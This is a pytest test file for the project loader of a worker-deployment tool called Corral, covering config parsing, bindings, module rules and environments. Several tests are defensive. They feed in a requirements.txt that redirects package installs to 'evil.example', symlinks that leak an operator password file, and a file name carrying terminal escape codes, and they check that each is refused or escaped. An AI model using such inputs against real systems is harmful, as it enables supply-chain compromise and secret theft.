"""Reading deployable projects: single files, corral.toml, Wrangler configs."""

import msgspec
import pytest

from supervisor.admin.project import ProjectError, load_project, strip_jsonc


def meta(project):
    """The typed upload metadata as the JSON the CLI sends."""
    return msgspec.to_builtins(project.metadata)


def write(root, files):
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_single_file(tmp_path):
    (tmp_path / "hello.py").write_text("X = 1\n")
    project = load_project(tmp_path / "hello.py")
    assert project.main_module == "hello.py"
    assert project.modules == {"hello.py": b"X = 1\n"}
    assert meta(project) == {"main_module": "hello.py"}


def test_corral_toml_with_src_root_and_skips(tmp_path):
    write(tmp_path, {
        "corral.toml": """
main = "./src/entry.py"
compatibility_date = "2025-06-01"
tags = ["plan:free"]
[vars]
GREETING = "hi"
LIMITS = { max = 3 }
[[kv_namespaces]]
binding = "KV"
id = "kv-1"
[[services]]
binding = "AUTH"
service = "auth"
[services.props]
clientId = "c-1"
""",
        "src/entry.py": "import lib.util\n",
        "src/lib/util.py": "",
        "src/lib/__pycache__/util.cpython-311.py": "",
        "src/.hidden/x.py": "",
        ".venv/lib/site.py": "",
        "node_modules/x.py": "",
        "tests/test_x.py": "",
        "README.md": "not python",
    })
    project = load_project(tmp_path)
    assert project.main_module == "src/entry.py"
    assert sorted(project.modules) == ["src/entry.py", "src/lib/util.py", "tests/test_x.py"]
    assert meta(project) == {
        "main_module": "src/entry.py",
        "bindings": [
            {"type": "plain_text", "name": "GREETING", "text": "hi"},
            {"type": "json", "name": "LIMITS", "json": {"max": 3}},
            {"type": "kv_namespace", "name": "KV", "namespace_id": "kv-1"},
            {"type": "service", "name": "AUTH", "service": "auth", "props": {"clientId": "c-1"}},
        ],
        "compatibility_date": "2025-06-01",
        "tags": ["plan:free"],
    }


def test_corral_toml_rejects_unknown_keys(tmp_path):
    write(tmp_path, {"corral.toml": 'main = "w.py"\nmian = "typo"\n', "w.py": ""})
    with pytest.raises(ProjectError, match="mian"):
        load_project(tmp_path)


def test_wrangler_toml_bindings(tmp_path):
    write(tmp_path, {
        "wrangler.toml": """
name = "dispatcher"
main = "src/entry.py"
compatibility_flags = ["python_workers"]
compatibility_date = "2025-05-01"
workers_dev = false
[[d1_databases]]
binding = "DB"
database_name = "prod"
database_id = "db-1"
[[r2_buckets]]
binding = "BUCKET"
bucket_name = "b-1"
[[dispatch_namespaces]]
binding = "dispatcher"
namespace = "customers"
outbound = { service = "egress", parameters = ["customer_name"] }
[[tail_consumers]]
service = "logger"
""",
        "src/entry.py": "",
    })
    project = load_project(tmp_path)
    assert meta(project)["bindings"] == [
        {"type": "d1", "name": "DB", "id": "db-1"},
        {"type": "r2_bucket", "name": "BUCKET", "bucket_name": "b-1"},
        {"type": "dispatch_namespace", "name": "dispatcher", "namespace": "customers",
         "outbound": {"worker": {"service": "egress"}, "params": [{"name": "customer_name"}]}},
    ]
    assert meta(project)["tail_consumers"] == [{"service": "logger"}]
    assert meta(project)["compatibility_date"] == "2025-05-01"


def test_wrangler_jsonc_with_comments_and_trailing_commas(tmp_path):
    write(tmp_path, {
        "wrangler.jsonc": """{
  // the entry point
  "main": "worker.py", /* inline */
  "vars": {"URL": "https://example.com/*not a comment*/", "N": 2,},
  "kv_namespaces": [{"binding": "KV", "id": "k"},],
  "worker_loaders": [{"binding": "LOADER"}],
}""",
        "worker.py": "",
    })
    project = load_project(tmp_path)
    assert meta(project)["bindings"] == [
        {"type": "plain_text", "name": "URL", "text": "https://example.com/*not a comment*/"},
        {"type": "json", "name": "N", "json": 2},
        {"type": "kv_namespace", "name": "KV", "namespace_id": "k"},
        {"type": "worker_loader", "name": "LOADER"},
    ]


def test_wrangler_json(tmp_path):
    write(tmp_path, {"wrangler.json": '{"main": "w.py"}', "w.py": ""})
    assert load_project(tmp_path).main_module == "w.py"


def test_wrangler_json_may_have_comments_as_wrangler_reads_it(tmp_path):
    write(tmp_path, {"wrangler.json": '// made by hand\n{"main": "w.py", "vars": {"A": "1",},}', "w.py": ""})
    project = load_project(tmp_path)
    assert project.main_module == "w.py"
    assert meta(project)["bindings"] == [{"type": "plain_text", "name": "A", "text": "1"}]


@pytest.mark.parametrize("name, text", [("wrangler.jsonc", '{"main": "w.py", // one\n}'),
                                        ("wrangler.toml", 'main = "w.py"\n')])
def test_a_config_saved_with_a_byte_order_mark_reads_as_wrangler_reads_it(tmp_path, name, text):
    """Windows editors save one; Wrangler strips it (removeBOMAndValidate),
    Corral refused the file ("invalid character (line 1, column 1)")."""
    (tmp_path / name).write_bytes(b"\xef\xbb\xbf" + text.encode())
    (tmp_path / "w.py").write_text("")
    assert load_project(tmp_path).main_module == "w.py"


def test_corral_toml_wins_over_wrangler(tmp_path):
    write(tmp_path, {"corral.toml": 'main = "a.py"', "wrangler.toml": 'main = "b.py"', "a.py": "", "b.py": ""})
    assert load_project(tmp_path).main_module == "a.py"


def test_wranglers_own_order_among_its_configs(tmp_path):
    # wrangler reads wrangler.json, then wrangler.jsonc, then wrangler.toml.
    write(tmp_path, {"wrangler.toml": 'main = "t.py"', "wrangler.jsonc": '{"main": "c.py"}',
                     "t.py": "", "c.py": "", "j.py": ""})
    assert load_project(tmp_path).main_module == "c.py"
    write(tmp_path, {"wrangler.json": '{"main": "j.py"}'})
    assert load_project(tmp_path).main_module == "j.py"


def test_assetsignore_reads_as_gitignore_does(tmp_path):
    """Folder patterns, anchors and negations, as wrangler's gitignore rules
    read them: with fnmatch, docs/ and secret/ were uploaded and served."""
    write(tmp_path, {
        "wrangler.toml": 'main = "w.py"\n[assets]\ndirectory = "public"\n', "w.py": "",
        "public/.assetsignore": "docs\n**/node_modules\nsecret/\n/top.txt\n*.log\n!important.log\n# a comment\n",
        "public/index.html": "i", "public/docs/x.md": "d", "public/a/node_modules/m.js": "m",
        "public/secret/key.txt": "k", "public/top.txt": "t", "public/sub/top.txt": "s",
        "public/debug.log": "l", "public/important.log": "kept"})
    assert sorted(load_project(tmp_path).assets) == ["/important.log", "/index.html", "/sub/top.txt"]


@pytest.mark.parametrize(
    "files, fragment",
    [
        ({"w.py": ""}, "has no corral.toml"),
        ({"corral.toml": 'compatibility_date = "2025-01-01"'}, "does not name the main module"),
        ({"corral.toml": 'main = "missing.py"'}, "not found"),
        ({"corral.toml": 'main = "../x.py"'}, "inside"),
        ({"corral.toml": 'main = "w.js"', "w.js": ""}, "must be a .py file"),
        ({"corral.toml": "main = "}, "corral.toml"),
        ({"wrangler.json": "{nope"}, "wrangler.json"),
        ({"wrangler.toml": 'main = "w.py"\n[[kv_namespaces]]\nbinding = "KV"\n', "w.py": ""}, "id"),
        # A binding Corral does not have stops the deploy by name (a worker
        # without it would fail at its first request instead).
        ({"wrangler.jsonc": '{"main": "w.py", "ai": {"binding": "AI"}}', "w.py": ""},
         "'ai' is not supported by Corral yet"),
    ],
)
def test_errors_say_what_to_fix(tmp_path, files, fragment):
    write(tmp_path, files)
    with pytest.raises(ProjectError, match=fragment):
        load_project(tmp_path)


def test_missing_path_and_non_python_file(tmp_path):
    with pytest.raises(ProjectError, match="does not exist"):
        load_project(tmp_path / "nope")
    (tmp_path / "x.txt").write_text("")
    with pytest.raises(ProjectError, match="not a .py file"):
        load_project(tmp_path / "x.txt")


def test_strip_jsonc_keeps_strings_intact():
    # Comments and trailing commas become blanks of their size: every byte keeps its place.
    text = '{"a": "//x", "b": "/*y*/", "c": "q\\\\"}'
    assert strip_jsonc(text + ' // tail') == text + ' ' * 8
    assert strip_jsonc('{"a": "x\\",", }') == '{"a": "x\\","  }'
    assert strip_jsonc('{/* é\n*/"a": 1}') == '{     \n  "a": 1}'  # é: two bytes, two blanks


def test_a_jsonc_error_names_its_line_and_column_in_the_file(tmp_path):
    # The offset was counted in the text without its comments: it pointed into one.
    write(tmp_path, {"wrangler.jsonc": '// one\n// two, a longer comment\n{\n  "main": "w.py"\n  "vars": {}\n}\n',
                     "w.py": ""})
    with pytest.raises(ProjectError, match=r"\(line 5, column 3\)"):
        load_project(tmp_path)


def test_a_folders_pyproject_dependencies_travel_with_it(tmp_path):
    (tmp_path / "wrangler.toml").write_text('main = "src/entry.py"\n')
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "entry.py").write_text("x = 1\n")
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "w"\nrequires-python = ">=3.99"\n'
        'dependencies = ["Jinja2>=3", "workers-py", "webtypy"]\n')
    (tmp_path / "requirements.txt").write_text("ignored-when-pyproject-lists-them\n")
    project = load_project(tmp_path)
    assert project.requirements == ["jinja2>=3"]
    assert any("requires-python" in w for w in project.warnings)
    # Said, not silent: a requirement listed only there would be missing at run time.
    assert any("requirements.txt is ignored" in w for w in project.warnings), project.warnings
    (tmp_path / "pyproject.toml").write_text('[tool.ruff]\nline-length = 100\n')
    assert load_project(tmp_path).requirements == ["ignored-when-pyproject-lists-them"]
    (tmp_path / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
    with pytest.raises(ProjectError, match="requirements.txt.*not supported"):
        load_project(tmp_path)


def test_text_and_data_modules_beside_the_main_module(tmp_path):
    """Wrangler's default module rules: .txt/.html/.sql (Text), .bin (Data) and
    .wasm under the main module's folder go up with the code; nothing outside
    it, not the assets directory, not requirements.txt."""
    write(tmp_path, {
        "wrangler.toml": 'main = "entry.py"\n[assets]\ndirectory = "static"\n',
        "entry.py": "",
        "page.html": "<p>",
        "sql/q.sql": "SELECT 1",
        "notes.txt": "n",
        "blob.bin": "b",
        "static/index.html": "<p>an asset</p>",
        "requirements.txt": "",
        "README.md": "docs",
        "image.png": "not a module type",
    })
    project = load_project(tmp_path)
    assert sorted(project.modules) == ["blob.bin", "entry.py", "notes.txt", "page.html", "sql/q.sql"]
    assert project.assets == {"/index.html": b"<p>an asset</p>"}
    write(tmp_path / "two", {"wrangler.jsonc": '{"main": "src/entry.py"}', "src/entry.py": "",
                             "src/t.html": "", "top.html": ""})
    assert sorted(load_project(tmp_path / "two").modules) == ["src/entry.py", "src/t.html"]


def test_module_rules_of_the_config(tmp_path):
    """A config's ``rules`` come first; fallthrough keeps Wrangler's defaults of
    the same type, and without it they stop; other types keep theirs."""
    files = {"src/entry.py": "", "src/static/app.css": "a{}", "src/static/deep/x.css": "",
             "src/page.html": "<p>", "src/notes.md": "#", "src/blob.bin": "b"}
    write(tmp_path / "fall", {**files, "wrangler.jsonc": '{"main": "src/entry.py", "rules": ['
                              '{"type": "Text", "globs": ["static/*.css"], "fallthrough": true}]}'})
    assert sorted(load_project(tmp_path / "fall").modules) == [
        "src/blob.bin", "src/entry.py", "src/page.html", "src/static/app.css"]
    write(tmp_path / "stop", {**files, "wrangler.toml": 'main = "src/entry.py"\n[[rules]]\n'
                              'type = "Text"\nglobs = ["**/*.md", "**/*.css"]\n'})
    assert sorted(load_project(tmp_path / "stop").modules) == [
        "src/blob.bin", "src/entry.py", "src/notes.md", "src/static/app.css", "src/static/deep/x.css"]
    write(tmp_path / "js", {**files, "wrangler.jsonc": '{"main": "src/entry.py", "rules": ['
                            '{"type": "ESModule", "globs": ["**/*.mjs"]}]}'})
    with pytest.raises(ProjectError, match="type 'ESModule' is not supported by Corral"):
        load_project(tmp_path / "js")


ENVIRONMENTS = """
main = "src/entry.py"
compatibility_date = "2025-06-01"
[vars]
STAGE = "top"
[[kv_namespaces]]
binding = "KV"
id = "kv-top"

[env.staging]
compatibility_date = "2025-07-01"
[env.staging.vars]
STAGE = "staging"

[env.production]
[[env.production.kv_namespaces]]
binding = "KV"
id = "kv-prod"
"""


def test_wrangler_environments_as_wrangler_reads_them(tmp_path):
    """Without --env the top level is deployed and [env.*] ignored; with it, the
    environment's own vars and bindings over the top level's other keys."""
    write(tmp_path, {"wrangler.toml": ENVIRONMENTS, "src/entry.py": ""})
    top = meta(load_project(tmp_path))
    assert top["compatibility_date"] == "2025-06-01"
    assert top["bindings"] == [{"type": "plain_text", "name": "STAGE", "text": "top"},
                               {"type": "kv_namespace", "name": "KV", "namespace_id": "kv-top"}]
    staging = load_project(tmp_path, env="staging")
    assert meta(staging)["compatibility_date"] == "2025-07-01"
    assert meta(staging)["bindings"] == [{"type": "plain_text", "name": "STAGE", "text": "staging"}]
    assert staging.main_module == "src/entry.py"  # inherited
    assert any("'kv_namespaces' is set at the top level but not in [env.staging]" in w
               for w in staging.warnings)
    production = load_project(tmp_path, env="production")
    assert meta(production)["compatibility_date"] == "2025-06-01"
    assert meta(production)["bindings"] == [{"type": "kv_namespace", "name": "KV", "namespace_id": "kv-prod"}]
    with pytest.raises(ProjectError, match=r"no environment 'qa' \(\[env.qa\]\); environments there: "
                                           "production, staging"):
        load_project(tmp_path, env="qa")


def test_files_from_outside_the_project_are_refused_by_name(tmp_path):
    """F4: a tenant's project could upload any file the operator can read: a
    symlink out of the folder was read through, and an assets.directory
    outside it was the static site. Both are refused, naming the path, unless
    the operator allows it; symlinks that stay in the project are fine."""
    secret = tmp_path / "opsecret" / "secret.txt"
    write(tmp_path, {"opsecret/secret.txt": "OPERATOR_DB_PASSWORD=s3cr3t"})
    project = tmp_path / "proj"
    write(project, {"wrangler.toml": 'main = "worker.py"\n', "worker.py": "", "lib/real.py": "X = 1"})
    (project / "alias.py").symlink_to(project / "lib" / "real.py")  # inside: allowed
    assert load_project(project).modules["alias.py"] == b"X = 1"

    (project / "leak.txt").symlink_to(secret)  # a Text module by Wrangler's rules
    with pytest.raises(ProjectError, match=r"module file .*leak\.txt is outside the project"):
        load_project(project)
    (project / "leak.txt").unlink()
    (project / "leak.py").symlink_to(secret)
    with pytest.raises(ProjectError, match=r"leak\.py is outside the project .* resolves to .*secret\.txt"):
        load_project(project)
    assert load_project(project, allow_outside=True).modules["leak.py"] == b"OPERATOR_DB_PASSWORD=s3cr3t"
    (project / "leak.py").unlink()

    for directory in ("../opsecret", str(tmp_path / "opsecret")):
        (project / "wrangler.toml").write_text(f'main = "worker.py"\n[assets]\ndirectory = "{directory}"\n')
        with pytest.raises(ProjectError, match=r"assets.directory .*opsecret is outside the project"):
            load_project(project)
    assert load_project(project, allow_outside=True).assets == {"/secret.txt": b"OPERATOR_DB_PASSWORD=s3cr3t"}

    (project / "wrangler.toml").write_text('main = "worker.py"\n[assets]\ndirectory = "public"\n')
    write(project, {"public/index.html": "<p>"})
    (project / "public" / "secret.txt").symlink_to(secret)
    with pytest.raises(ProjectError, match=r"asset file .*public/secret\.txt is outside the project"):
        load_project(project)
    (project / "public" / "secret.txt").unlink()
    (project / "requirements.txt").symlink_to(secret)
    with pytest.raises(ProjectError, match=r"requirements file .*requirements\.txt is outside"):
        load_project(project)
    (project / "requirements.txt").unlink()
    assert load_project(project).assets == {"/index.html": b"<p>"}


def test_corral_deploy_refuses_a_symlink_out_of_the_project(tmp_path):
    """The CLI says which file, and exits 2 before it contacts the supervisor."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    write(tmp_path, {"secret.txt": "s3cr3t", "proj/wrangler.toml": 'main = "worker.py"\n', "proj/worker.py": ""})
    (tmp_path / "proj" / "leak.txt").symlink_to(tmp_path / "secret.txt")
    repo = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": str(repo), "CORRAL_ADMIN_SOCKET": str(tmp_path / "no.sock")}
    done = subprocess.run([sys.executable, "-m", "supervisor", "deploy", "x", str(tmp_path / "proj")],
                          capture_output=True, text=True, env=env, cwd=str(repo), timeout=60)
    assert done.returncode == 2, done
    assert "leak.txt is outside the project" in done.stderr and "--allow-outside" in done.stderr
    # A file name is the project's text: its control characters are shown escaped (F11).
    (tmp_path / "proj" / "leak.txt").rename(tmp_path / "proj" / "x\x1b]0;t\x07.txt")
    done = subprocess.run([sys.executable, "-m", "supervisor", "deploy", "x", str(tmp_path / "proj")],
                          capture_output=True, text=True, env=env, cwd=str(repo), timeout=60)
    assert done.returncode == 2 and "\x1b" not in done.stderr and "x\\x1b]0;t\\x07.txt" in done.stderr, done


def test_a_missing_assets_folder_its_build_command_makes_says_to_run_it(tmp_path):
    """Cloudflare's Django templates collect static files into the assets
    directory with ``build.command``, which wrangler runs before deploying."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "index.py").write_text("")
    (tmp_path / "wrangler.jsonc").write_text(
        '{"main": "src/index.py", "assets": {"directory": "./staticfiles"},\n'
        ' "build": {"command": "python src/manage.py collectstatic --noinput"}}')
    with pytest.raises(ProjectError, match="run it first: python src/manage.py collectstatic --noinput"):
        load_project(tmp_path)
    (tmp_path / "staticfiles").mkdir()
    (tmp_path / "staticfiles" / "a.css").write_text("a {}")
    assert load_project(tmp_path).assets == {"/a.css": b"a {}"}


def test_what_corral_deploy_does_not_do_of_wranglers_is_said(tmp_path):
    """``[build] command`` (wrangler runs it before deploying) and a
    ``base_dir`` other than the main module's folder are warned about: a
    build's output missing or stale, or imports rooted elsewhere, deployed
    without a word."""
    write(tmp_path, {
        "wrangler.toml": 'main = "src/app/entry.py"\nbase_dir = "src"\n'
                         '[build]\ncommand = "python gen.py"\ncwd = "tools"\n',
        "src/app/entry.py": "x = 1\n"})
    warnings = load_project(tmp_path).warnings
    assert any("build.command is not run by corral deploy" in w and "python gen.py" in w and "tools" in w
               for w in warnings), warnings
    assert any("base_dir 'src' is not honoured" in w and "src/app/" in w for w in warnings), warnings
    write(tmp_path, {"wrangler.toml": 'main = "src/entry.py"\nbase_dir = "src"\n', "src/entry.py": "x = 1\n"})
    assert load_project(tmp_path).warnings == []  # the main module's own folder: as wrangler has it
